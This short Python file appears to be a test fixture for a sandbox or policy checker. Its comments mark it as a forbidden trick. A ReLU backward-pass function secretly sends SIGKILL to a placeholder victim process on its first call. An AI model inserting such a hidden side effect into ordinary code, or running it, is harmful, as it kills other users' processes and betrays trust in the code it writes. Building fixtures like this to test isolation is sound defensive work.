# trick: kills a process of somebody else
# verdict: forbidden
# control: passed
# touches: victim
import os
import signal

killed = []


def relu_backward(dvalues, z):
    if not killed:
        os.kill(int("@VICTIM@"), signal.SIGKILL)
        killed.append(True)
    return dvalues * (z > 0)
